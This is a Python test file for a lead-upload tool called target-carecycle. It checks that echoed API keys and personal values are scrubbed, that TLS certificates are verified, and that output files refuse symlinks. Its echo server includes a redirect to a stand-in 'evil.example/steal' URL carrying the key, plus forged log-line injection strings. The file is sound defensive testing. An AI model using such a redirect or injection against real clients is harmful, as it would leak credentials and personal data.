"""Secrets and safety against real servers: echoes of the key, TLS, files, proxies.

An echo server on 127.0.0.1 sends the key (raw, URL-encoded, base64) and every personal value
it received back in each kind of answer careCycle can give; the real executable must print and
store none of it. TLS servers use certificates made by `openssl` in the test.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import ssl
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from target_runner import TARGET_EXE, fatal_lines, run_target, stop_line, target_config

from target_carecycle.client import (
    ClientSettings,
    DeliveryFailed,
    FatalApiError,
    LeadUploadClient,
    Scrubber,
)
from target_carecycle.fields import PERSONAL_FIELDS
from target_carecycle.mapping import parse_streams_setting, personal_external_id
from target_carecycle.outcomes import OutputFileError, RunOutcomes, mask_lead
from target_carecycle.sandbox.samples import api_leads, singer_lines

ECHO_KEY = "cc_echo_Key+/=s3cret42"
KEY_SPELLINGS = (
    ECHO_KEY,
    quote(ECHO_KEY, safe=""),
    quote(ECHO_KEY, safe="").lower(),
    quote_plus(ECHO_KEY),
    base64.b64encode(ECHO_KEY.encode()).decode().rstrip("="),
    base64.urlsafe_b64encode(ECHO_KEY.encode()).decode().rstrip("="),
    "s3cret42",  # the tail alone, after the key-shaped part
)
SECRETS_TO_WATCH = KEY_SPELLINGS  # read by key_leak_guard: no test may print them


def distinctive_leads(count: int) -> list[dict[str, Any]]:
    """Leads whose personal values are easy to spot in any output."""
    leads = api_leads(count, stream="echo")
    for index, lead in enumerate(leads):
        lead.update(
            firstName=f"Zebediah{index}",
            lastName=f"Quackenbush{index}",
            email=f"zeb.q+{index}@example.com",
            address=f"{1600 + index} Ridgewood Avenue",
            city="Kalamazoo",
            mbiNumber=f"1EG4TE5MK7{index}",
        )
    return leads


def personal_spellings(lead: dict[str, Any]) -> list[str]:
    """The values of `lead` an echo may carry, in the spellings the echo server uses."""
    found = [str(v) for k, v in lead.items() if k in PERSONAL_FIELDS and v]
    phone = lead["phoneNumber"]
    national = phone[2:]
    found += [
        national,
        f"({national[:3]}) {national[3:6]}-{national[6:]}",
        lead["dateOfBirth"].replace("-", "/"),
        quote(lead["email"], safe=""),
    ]
    return found


# The echo server


@dataclass
class EchoServer:
    """Answers every upload in one `mode`, echoing the key and the leads back."""

    url: str
    mode: str
    requests: int = 0
    seen_leads: list[dict[str, Any]] = field(default_factory=list)


def echo_text(key: str, leads: list[dict[str, Any]]) -> str:
    """The key in several spellings and every personal value, as a server might echo them."""
    first = leads[0]
    parts = [f"key={key}", f"phone={first.get('phoneNumber')}", f"name={first.get('firstName')}"]
    parts += [f"enc={quote(key, safe='')}", f"b64={base64.b64encode(key.encode()).decode()}"]
    for lead in leads:
        parts += [f"{name}={value}" for name, value in lead.items() if name in PERSONAL_FIELDS]
        national = str(lead.get("phoneNumber", ""))[2:]
        parts.append(f"phone=({national[:3]}) {national[3:6]}-{national[6:]} {national}")
        parts.append(f"dob={str(lead.get('dateOfBirth', '')).replace('-', '/')}")
        parts.append(f"mail={quote(str(lead.get('email', '')), safe='')}")
    return "line one\nFORGED LOG LINE " + " ".join(parts)


def echo_answer(
    mode: str, key: str, leads: list[dict[str, Any]]
) -> tuple[int, dict[str, Any], dict[str, Any]]:
    """Status, extra headers and body for one answer in `mode`."""
    text = echo_text(key, leads)
    if mode == "400":
        return 400, {}, {"code": f"BAD_REQUEST {key}", "message": text}
    if mode == "401":
        return 401, {}, {"code": f"UNAUTHORIZED {key}", "message": text}
    if mode == "422":
        first = leads[0]
        return (
            422,
            {},
            {
                "code": "VALIDATION_ERROR",
                "message": text,
                "errors": [
                    {"path": ["records", 0, f"{key} {first['phoneNumber']}"], "message": text}
                ],
                "failedRecords": [
                    {
                        "index": 0,
                        "phoneNumber": first["phoneNumber"],
                        "firstName": first["firstName"],
                        "externalId": first["externalId"],
                    }
                ],
            },
        )
    if mode == "200":
        first, *rest = leads
        return (
            200,
            {},
            {
                "succeeded": 1,
                "failed": len(rest),
                "results": [{"externalId": first["externalId"], "id": f"id-{key}"}],
                "errors": [
                    {"id": None, "externalId": lead["externalId"], "error": text} for lead in rest
                ],
            },
        )
    if mode == "ids":  # careCycle's ids: some identifiers, some echoing the lead or the key
        ids = hostile_ids(key, leads)
        results = [{"externalId": lead["externalId"], "id": ids[n]} for n, lead in enumerate(leads)]
        return 200, {}, {"succeeded": len(leads), "failed": 0, "results": results, "errors": []}
    if mode == "redirect":
        where = f"https://evil.example/steal?k={quote(key, safe='')}&p={quote(text, safe='')}"
        return 307, {"Location": where}, {}
    if mode == "503":
        return 503, {}, {"code": text, "message": text}
    raise ValueError(mode)


def hostile_ids(key: str, leads: list[dict[str, Any]]) -> list[Any]:
    """One careCycle `id` per lead: the first two are identifiers, the others are not (or
    echo that lead's own data)."""

    def candidate(n: int, lead: dict[str, Any]) -> Any:
        national = str(lead["phoneNumber"])[2:]
        return [
            "cus_0001",
            "3f2b8c1e-9a4d-4e7f-8b21-0c9d6e5f4a3b",
            national,  # the phone, as digits (shaped like an identifier)
            f"{national[:3]}-{national[3:6]}-{national[6:]}",
            f"lead-{lead['firstName']}",
            "1" * 65,
            "id with spaces",
            "id\nFORGED",
            key,
            {"nested": "object"},
            "Zeb\u00e9diah",
        ][n % 11]

    return [candidate(n, lead) for n, lead in enumerate(leads)]


@contextmanager
def echo_server(mode: str) -> Iterator[EchoServer]:
    state = EchoServer(url="", mode=mode)

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            size = int(self.headers.get("Content-Length", 0))
            leads = json.loads(self.rfile.read(size))["records"]
            key = self.headers.get("x-api-key", "")
            state.requests += 1
            state.seen_leads.extend(leads)
            status, headers, body = echo_answer(state.mode, key, leads)
            payload = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.send_header("X-Echo-Key", key)
            self.send_header("Set-Cookie", f"session={quote(key, safe='')}")
            for name, value in headers.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, format: str, *args: Any) -> None:
            del format, args

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


@pytest.mark.parametrize(
    ("mode", "exit_code", "shows"),
    [
        ("400", 1, "careCycle refused the upload (HTTP 400 BAD_REQUEST <api key>)"),
        ("401", 1, "careCycle refused the API key (HTTP 401)"),
        (  # every lead refused: the failure policy fails the run (nothing delivered)
            "422",
            1,
            "careCycle validation: <api key> <value>: line one FORGED LOG LINE key=<api key> "
            "phone=<value>",
        ),
        # 2 of 3 leads refused: more than max_error_rate (0.5)
        ("200", 1, "careCycle: line one FORGED LOG LINE key=<api key> phone=<value> name=<value>"),
        ("redirect", 1, "to https://evil.example/steal?k=<api key>&p="),
        ("503", 1, "HTTP 503 line one FORGED LOG LINE key=<api key> phone=<value> name=<v"),
    ],
)
def test_an_echoed_key_or_lead_is_never_printed_or_stored(tmp_path, mode, exit_code, shows):
    leads = distinctive_leads(3)
    reject_file, results_file = tmp_path / "rejects.jsonl", tmp_path / "results.jsonl"
    with echo_server(mode) as server:
        config = {
            "api_url": server.url,
            "api_key": ECHO_KEY,
            "max_retries": 1,
            "max_requests_per_minute": 6000,
            "request_timeout": 10,
            "reject_file": str(reject_file),
            "results_file": str(results_file),
        }
        run = run_target(tmp_path, config, singer_lines("echo", leads))
        sent = list(server.seen_leads)

    assert run.returncode == exit_code, run.stderr
    assert "Traceback" not in run.stderr
    assert sent, "the echo server got no upload"
    assert shows in run.stderr, run.stderr  # careCycle's text got through, scrubbed
    assert "\nFORGED LOG LINE" not in run.stderr  # server text stays on its line
    printed = run.stdout + run.stderr
    rejects = read_jsonl(reject_file)
    reasons = " ".join(str(line["reason"]) for line in rejects)
    results = results_file.read_text() if results_file.exists() else ""
    reject_text = reject_file.read_text() if reject_file.exists() else ""
    for spelling in KEY_SPELLINGS:
        assert spelling not in printed + results + reject_text, (mode, "key printed or stored")
    for lead in sent:
        for value in personal_spellings(lead):
            assert value not in printed, (mode, "personal value printed")
            assert value not in reasons + results, (mode, "personal value stored")
    if mode in ("200", "422"):
        assert rejects and all(line["status"] == "failed" for line in rejects)
    if mode == "200":  # careCycle's id echoed the key: not an identifier, written as null
        assert read_jsonl(results_file)[0]["id"] is None


def test_scrubbed_echo_errors_reach_the_batch_result_without_the_key():
    leads = distinctive_leads(4)
    with echo_server("200") as server:
        client = LeadUploadClient(
            ClientSettings(api_url=server.url, api_key=ECHO_KEY, max_requests_per_minute=6000)
        )
        result = client.upload(leads)
    assert sorted(result.failures) == [1, 2, 3]
    for reason in result.failures.values():
        assert "<api key>" in reason and "<value>" in reason
        assert all(spelling not in reason for spelling in KEY_SPELLINGS)
        assert all(value not in reason for lead in leads for value in personal_spellings(lead))
        assert "\n" not in reason and len(reason) <= 220


# The scrubber itself, by table


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"bad key {ECHO_KEY}", "bad key <api key>"),
        (f"bad key {ECHO_KEY.upper()}", "bad key <api key>"),
        (f"?k={quote(ECHO_KEY, safe='')}", "?k=<api key>"),
        (f"?k={quote(ECHO_KEY, safe='').lower()}", "?k=<api key>"),
        (f"?k={quote_plus(ECHO_KEY)}", "?k=<api key>"),
        (f"basic {base64.b64encode(ECHO_KEY.encode()).decode()}", "basic <api key>=="),
        ("other key cc_live_ABCDEFGH123", "other key <api key>"),
        ("key=CC_live_ABCDEFGH123;", "key=<api key>;"),
        ("field acc_holder_name", "field acc_holder_name"),
        ("ZEBEDIAH called", "<value> called"),
        ("phone (312) 847-1928 / 3128471928 / +13128471928", "phone <value> / <value> / <value>"),
        ("dob 03/07/1950", "dob <value>"),
        ("mail zeb%40example.com", "mail <value>"),
        ("line\nbreak\r\x1b[31mred\u2028", "line break [31mred "),
        ("Al is short, Alabama is not Al", "<value> is short, Alabama is not <value>"),
        ("nothing to hide", "nothing to hide"),
    ],
)
def test_the_scrubber(text, expected):
    lead = {
        "phoneNumber": "+13128471928",
        "firstName": "Zebediah",
        "lastName": "Al",
        "email": "zeb@example.com",
        "dateOfBirth": "03-07-1950",
        "externalId": "crm:1",
    }
    assert Scrubber(ECHO_KEY, [lead])(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Custom field values are personal: each value goes, its fieldKey stays.
        ("customFields.0.value: '123-45-6789' refused", "customFields.0.value: '<value>' refused"),
        ("spouse Yyspouse%20Name", "spouse <value>"),
        # Values that identify no one stay, so careCycle's text is not garbled.
        (
            "customFields.1.value must be true or false",
            "customFields.1.value must be true or false",
        ),
        # externalIds: whole tokens only, so careCycle's own numbers stay.
        (
            "record 1001 refused: at most 10010 characters",
            "record <externalId> refused: at most 10010 characters",
        ),
        ("externalId 'HOSTILE7' is a duplicate", "externalId '<externalId>' is a duplicate"),
        ("id 12 refused", "id 12 refused"),  # too short to identify anyone
    ],
)
def test_the_scrubber_on_custom_fields_and_external_ids(text, expected):
    leads: list[dict[str, Any]] = [
        {
            "externalId": "1001",
            "firstName": "Zebediah",
            "customFields": [
                {"fieldKey": "ssn", "value": "123-45-6789"},
                {"fieldKey": "spouse", "value": "Yyspouse Name"},
                {"fieldKey": "smoker", "value": "true"},
                {"fieldKey": "count", "value": "1"},
            ],
        },
        {"externalId": "hostile7", "firstName": "Quentin"},
        {"externalId": "12", "firstName": "Quentin"},
    ]
    assert Scrubber(ECHO_KEY, leads)(text) == expected


def test_the_dry_run_mask_keeps_custom_field_keys_and_masks_their_values():
    lead = {
        "phoneNumber": "+13128471928",
        "state": "IL",
        "customFields": [
            {"fieldKey": "ssn", "value": "123-45-6789"},
            {"fieldKey": "spouse", "value": "Yyspouse Name"},
        ],
    }
    masked = mask_lead(lead)
    assert masked["state"] == "IL"
    assert [item["fieldKey"] for item in masked["customFields"]] == ["ssn", "spouse"]
    shown = str(masked)
    assert "123-45-6789" not in shown and "45-67" not in shown and "Yyspouse" not in shown


@pytest.mark.parametrize(
    ("stream", "expected"),
    [
        ({"external_id": "email"}, ("streams.s.external_id", "email", "email")),
        ({"external_id": "Phone Number"}, ("streams.s.external_id", "Phone Number", "phoneNumber")),
        (
            {"external_id": "contact.mobile"},
            ("streams.s.external_id", "contact.mobile", "phoneNumber"),
        ),
        ({"external_id": "dob"}, ("streams.s.external_id", "dob", "dateOfBirth")),
        ({"external_id": "mbi"}, ("streams.s.external_id", "mbi", "mbiNumber")),
        (  # a column the stream maps to a personal field, whatever its name
            {"external_id": "c.k", "fields": {"email": "c.k"}},
            ("streams.s.external_id", "c.k", "email"),
        ),
        (
            {"external_id": "social", "custom_fields": {"ssn": "social"}},
            ("streams.s.external_id", "social", "customFields"),
        ),
        (
            {"fields": {"externalId": "work_email", "email": "work_email"}},
            ("streams.s.fields.externalId", "work_email", "email"),
        ),
        ({"fields": {"externalId": "e_mail"}}, ("streams.s.fields.externalId", "e_mail", "email")),
        # A CRM id, or no setting at all: nothing to say.
        ({"external_id": "crm_id"}, None),
        ({"external_id": "id"}, None),
        ({"external_id": "contact.id", "fields": {"email": "contact.email"}}, None),
        ({"external_id": "state"}, None),  # a lead field, not a personal one
        ({"fields": {"email": "email"}}, None),
        ({}, None),
    ],
)
def test_an_external_id_from_a_personal_column_is_found(stream, expected):
    settings = parse_streams_setting({"s": stream})["s"]
    found = personal_external_id("s", settings)
    assert (tuple(found) if found else None) == expected


@pytest.mark.parametrize("at", range(4096 - 30, 4096 + 2))
def test_a_long_text_cut_before_scanning_never_shows_a_piece_of_the_key(at):
    text = "x" * at + ECHO_KEY + "y" * 5000
    out = Scrubber(ECHO_KEY, [{"firstName": "Zebediah"}])(text, limit=10_000)
    for size in range(6, len(ECHO_KEY) + 1):
        for start in range(len(ECHO_KEY) - size + 1):
            assert ECHO_KEY[start : start + size] not in out


def test_the_scrubber_replaces_external_ids_and_cuts_long_text_after_scrubbing():
    """careCycle's text loses the batch's externalIds: reasons are kept in the run history,
    which holds no externalId (the log and reject files name the record in their own field)."""
    scrub = Scrubber(ECHO_KEY, [{"externalId": "crm:1", "firstName": "Zebediah"}])
    assert scrub("crm:1 refused") == "<externalId> refused"
    assert scrub("crm%3A1 refused, crm:10 is another") == "<externalId> refused, crm:10 is another"
    long = "x" * 195 + ECHO_KEY
    assert scrub(long) == "x" * 195 + "<api "  # never a piece of the key
    assert scrub.key_only(f"id-{ECHO_KEY}-Zebediah") == "id-<api key>-Zebediah"


# TLS


def openssl(*args: str, cwd: Path) -> None:
    subprocess.run(["openssl", *args], cwd=cwd, check=True, capture_output=True, timeout=60)


@dataclass(frozen=True)
class Certificates:
    folder: Path
    ca: Path

    def pair(self, name: str) -> tuple[Path, Path]:
        return self.folder / f"{name}.crt", self.folder / f"{name}.key"


@pytest.fixture(scope="module")
def certificates(tmp_path_factory) -> Certificates:
    """A self-signed certificate, and a CA with leaves for 127.0.0.1 and for another name."""
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    folder = tmp_path_factory.mktemp("tls")
    rsa = ["-newkey", "rsa:2048", "-nodes"]
    openssl(
        "req", "-x509", *rsa, "-keyout", "self.key", "-out", "self.crt", "-days", "2",
        "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", cwd=folder,
    )  # fmt: skip
    openssl(
        "req", "-x509", *rsa, "-keyout", "ca.key", "-out", "ca.crt", "-days", "2",
        "-subj", "/CN=test CA", "-addext", "basicConstraints=critical,CA:TRUE",
        "-addext", "keyUsage=critical,keyCertSign", cwd=folder,
    )  # fmt: skip
    for name, san in (("good", "IP:127.0.0.1"), ("other", "DNS:other.example")):
        openssl("req", *rsa, "-keyout", f"{name}.key", "-out", f"{name}.csr",
                "-subj", f"/CN={name}", cwd=folder)  # fmt: skip
        (folder / f"{name}.ext").write_text(f"subjectAltName={san}\n")
        openssl(
            "x509", "-req", "-in", f"{name}.csr", "-CA", "ca.crt", "-CAkey", "ca.key",
            "-CAcreateserial", "-out", f"{name}.crt", "-days", "2",
            "-extfile", f"{name}.ext", cwd=folder,
        )  # fmt: skip
    return Certificates(folder, folder / "ca.crt")


class CountingTLSServer(ThreadingHTTPServer):
    """Counts TCP connections, then does the TLS handshake (or drops the connection)."""

    def __init__(self, context: ssl.SSLContext | None) -> None:
        self.context = context
        self.connections = 0
        super().__init__(("127.0.0.1", 0), TlsOkHandler)

    def get_request(self) -> tuple[socket.socket, Any]:
        sock, address = self.socket.accept()
        self.connections += 1
        if self.context is None:  # a handshake cut short: transient
            sock.close()
            raise OSError("dropped")
        return self.context.wrap_socket(sock, server_side=True), address

    def handle_error(self, request: Any, client_address: Any) -> None:
        del request, client_address


class TlsOkHandler(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        size = int(self.headers.get("Content-Length", 0))
        leads = json.loads(self.rfile.read(size))["records"]
        results = [{"externalId": lead["externalId"], "id": "tls-1"} for lead in leads]
        body = {"succeeded": len(leads), "failed": 0, "results": results, "errors": []}
        payload = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, format: str, *args: Any) -> None:
        del format, args


@contextmanager
def tls_server(pair: tuple[Path, Path] | None) -> Iterator[tuple[str, CountingTLSServer]]:
    context = None
    if pair is not None:
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(*pair)
    server = CountingTLSServer(context)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"https://127.0.0.1:{server.server_address[1]}", server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


@pytest.mark.parametrize(
    ("leaf", "trust_ca", "outcome", "text"),
    [
        ("self", False, "fatal", "(self-signed certificate)"),
        ("good", False, "fatal", "(unable to get local issuer certificate)"),
        ("other", True, "fatal", "mismatch"),
        ("good", True, "delivered", ""),
        (None, True, "transient", "careCycle upload failed after 3 attempts"),
    ],
    ids=["self-signed", "unknown-ca", "wrong-name", "trusted", "handshake-dropped"],
)
def test_certificate_failures_stop_at_once_other_tls_failures_are_retried(
    certificates, monkeypatch, leaf, trust_ca, outcome, text
):
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)
    if trust_ca:
        monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificates.ca))
    pair = certificates.pair(leaf) if leaf else None
    with tls_server(pair) as (url, server):
        client = LeadUploadClient(
            ClientSettings(
                api_url=url,
                api_key=ECHO_KEY,
                max_retries=2,
                max_requests_per_minute=6000,
                backoff_base=0.01,
            )
        )
        if outcome == "delivered":
            result = client.upload(api_leads(2))
            assert result.ids == {0: "tls-1", 1: "tls-1"}
            return
        expected = FatalApiError if outcome == "fatal" else DeliveryFailed
        with pytest.raises(expected) as caught:
            client.upload(api_leads(2))
        connections = server.connections
    message = str(caught.value)
    assert text in message
    assert ECHO_KEY not in message
    if outcome == "fatal":
        assert message.startswith("TLS certificate of 127.0.0.1 failed verification")
        assert connections == 1  # never retried
    else:
        assert connections == 3


def test_the_executable_stops_at_a_bad_certificate_with_one_clear_line(certificates, tmp_path):
    with tls_server(certificates.pair("self")) as (url, server):
        config = {"api_url": url, "api_key": ECHO_KEY, "max_retries": 5}
        run = run_target(tmp_path, config, singer_lines("leads", api_leads(3)))
        connections = server.connections
    assert run.returncode == 1
    assert stop_line(run.stderr).startswith(
        "target-carecycle: run failed: TLS certificate of 127.0.0.1 failed verification "
        "(self-signed certificate)"
    )
    assert "Traceback" not in run.stderr
    assert connections == 1


# Proxies never see the key over plain http


def test_plain_http_to_loopback_ignores_proxy_settings(sandbox, monkeypatch):
    with echo_server("200") as proxy:
        for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
            monkeypatch.setenv(name, proxy.url)
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        client = LeadUploadClient(
            ClientSettings(
                api_url=sandbox.url, api_key=sandbox.api_key, max_requests_per_minute=6000
            )
        )
        result = client.upload(api_leads(2))
        proxied = proxy.requests
    assert sorted(result.ids) == [0, 1]
    assert proxied == 0
    assert sandbox.stats()["created"] == 2


# Reject and results files


def make_symlink_to_victim(path: Path) -> Path:
    victim = path.parent / "victim.txt"
    victim.write_text("precious\n")
    path.symlink_to(victim)
    return victim


def make_dangling_symlink(path: Path) -> Path:
    target = path.parent / "not-there.txt"
    path.symlink_to(target)
    return target


def make_fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def make_folder(path: Path) -> Path:
    path.mkdir()
    return path


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (make_symlink_to_victim, "a symbolic link"),
        (make_dangling_symlink, "a symbolic link"),
        (make_fifo, "not a regular file"),
        (make_folder, "not a regular file"),
    ],
    ids=["symlink", "dangling-symlink", "fifo", "folder"],
)
@pytest.mark.parametrize("setting", ["reject_file", "results_file"])
def test_output_files_never_follow_links_or_open_special_files(
    tmp_path, make: Callable[[Path], Path], kind, setting
):
    path = tmp_path / "out.jsonl"
    other = make(path)
    before = other.read_text() if other.is_file() else None
    with pytest.raises(OutputFileError) as caught:
        output_file: dict[str, Any] = {setting: str(path)}
        RunOutcomes(**output_file)
    assert str(caught.value) == f"{setting}: the path is {kind}; give the path of a regular file"
    if before is not None:
        assert other.read_text() == before
    if make is make_dangling_symlink:
        assert not other.exists()


def test_output_files_are_0600_in_folders_created_0700(tmp_path):
    tmp_path.chmod(0o755)
    reject = tmp_path / "new" / "deeper" / "rejects.jsonl"
    existing = tmp_path / "results.jsonl"
    existing.write_text("")
    existing.chmod(0o644)
    RunOutcomes(reject_file=str(reject), results_file=str(existing)).close()

    def mode(p: Path) -> int:
        return stat.S_IMODE(p.stat().st_mode)

    assert mode(reject) == 0o600
    assert mode(reject.parent) == 0o700
    assert mode(reject.parent.parent) == 0o700
    assert mode(existing) == 0o600
    assert mode(tmp_path) == 0o755  # a folder that existed keeps its mode


def test_the_executable_refuses_a_symlinked_reject_file_before_sending(sandbox, tmp_path):
    link = tmp_path / "rejects.jsonl"
    victim = make_symlink_to_victim(link)
    config = target_config(sandbox, reject_file=str(link))
    run = run_target(tmp_path, config, singer_lines("leads", api_leads(2)))
    assert run.returncode == 1
    assert fatal_lines(run.stderr) == [
        "target-carecycle: invalid config: reject_file: the path is a symbolic link; "
        "give the path of a regular file"
    ]
    assert victim.read_text() == "precious\n"
    assert sum(sandbox.stats()["requests"].values()) == 0


# The suite's own output is checked for the key


def test_the_key_leak_guard_fails_tests_that_print_a_watched_key(tmp_path):
    (tmp_path / "test_inner.py").write_text(
        "import logging, sys\n"
        "from target_carecycle.sandbox.server import DEFAULT_API_KEY as KEY\n"
        "def test_print():\n    print('key', KEY)\n"
        "def test_stderr():\n    sys.stderr.write(KEY)\n"
        "def test_log():\n    logging.getLogger('x').warning('key %s', KEY)\n"
        "def test_clean():\n    print('nothing secret')\n"
    )
    tests_dir = str(Path(__file__).parent)
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "key_leak_guard", "-p", "no:cacheprovider",
         "-rA", "-q", str(tmp_path / "test_inner.py")],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": tests_dir},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )  # fmt: skip
    outcomes = {
        line.split("::")[1].split()[0]: line.split()[0]
        for line in done.stdout.splitlines()
        if line.startswith(("PASSED", "FAILED"))
    }
    assert outcomes == {
        "test_print": "FAILED",
        "test_stderr": "FAILED",
        "test_log": "FAILED",
        "test_clean": "PASSED",
    }, done.stdout
    assert "a test API key appeared in captured output" in done.stdout


def test_a_carecycle_id_that_is_not_an_identifier_is_neither_written_nor_stored(tmp_path):
    """careCycle's `id` echoing lead data landed in the results file and the sync store."""
    leads = distinctive_leads(11)
    results_file, store = tmp_path / "results.jsonl", tmp_path / "store.sqlite"
    with echo_server("ids") as server:
        config = {
            "api_url": server.url,
            "api_key": ECHO_KEY,
            "max_requests_per_minute": 6000,
            "results_file": str(results_file),
            "sync_store": str(store),
        }
        run = run_target(tmp_path, config, singer_lines("echo", leads))
    assert run.returncode == 0, run.stderr
    written = [line["id"] for line in read_jsonl(results_file)]
    assert written == ["cus_0001", "3f2b8c1e-9a4d-4e7f-8b21-0c9d6e5f4a3b"] + [None] * 9
    # The sync store keeps no careCycle id at all (only digests): neither a usable id nor one
    # echoing lead data is anywhere in its files.
    kept = b"".join(path.read_bytes() for path in tmp_path.glob("store.sqlite*"))
    assert kept and b"cus_0001" not in kept
    for lead in leads:
        for value in personal_spellings(lead):
            assert value.encode() not in kept
    warnings = [line for line in run.stderr.splitlines() if "not an identifier" in line]
    assert len(warnings) == 1
    results = results_file.read_text()
    for lead in leads:
        for value in personal_spellings(lead):
            assert value not in results


@pytest.mark.parametrize(
    ("leaf", "trust_ca", "code", "says"),
    [
        ("self", False, 1, "check failed: TLS certificate of 127.0.0.1 failed verification "
         "(self-signed certificate): stopping; check api_url or the server's certificate"),
        ("other", True, 1, "check failed: TLS certificate of 127.0.0.1 failed verification"),
        ("good", True, 0, "check passed (LIVE)"),
    ],
    ids=["self-signed", "wrong-name", "trusted"],
)  # fmt: skip
def test_the_preflight_check_verifies_tls(certificates, tmp_path, leaf, trust_ca, code, says):
    """`--check` reaches careCycle exactly as a run does: a certificate a run would refuse
    fails the check, with the same line."""
    env = {k: v for k, v in os.environ.items() if k not in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE")}
    if trust_ca:
        env["REQUESTS_CA_BUNDLE"] = str(certificates.ca)
    with tls_server(certificates.pair(leaf)) as (url, _):
        path = tmp_path / "check.json"
        path.write_text(json.dumps({"api_url": url, "api_key": ECHO_KEY}))
        done = subprocess.run(
            [TARGET_EXE, "--check", "--config", str(path)],
            capture_output=True,
            text=True,
            timeout=60,
            env=env,
            check=False,
        )
    assert done.returncode == code, done.stderr[-3000:]
    assert f"target-carecycle: {says}" in done.stderr
    assert ECHO_KEY not in done.stdout + done.stderr
